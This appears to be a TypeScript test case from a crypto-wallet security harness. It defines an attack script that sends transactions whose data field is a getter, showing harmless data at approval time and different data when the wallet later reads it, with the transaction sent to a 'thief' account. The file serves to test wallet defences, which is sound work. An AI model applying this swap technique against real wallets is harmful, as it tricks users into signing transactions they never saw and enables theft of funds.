import type { Attack } from '../Attack.ts';

/** The person is shown one text and the wallet reads another. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'data getter, harmless until it was approved',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (let evilFrom = 1; evilFrom < 5; evilFrom += 1) {
  let reads = 0;
  const tx = { from: kit.account, to: kit.thief, value: '0x1', get data() { reads += 1; return reads < evilFrom ? '0xb0' + kit.marker.slice(2) : kit.hex; } };
  wallet.request({ method: 'eth_sendTransaction', params: [tx] }).catch(() => undefined);
}
`,
  drive: async (stage) => {
    await stage.approve(`b0${stage.marker.slice(2)}`);
  },
};
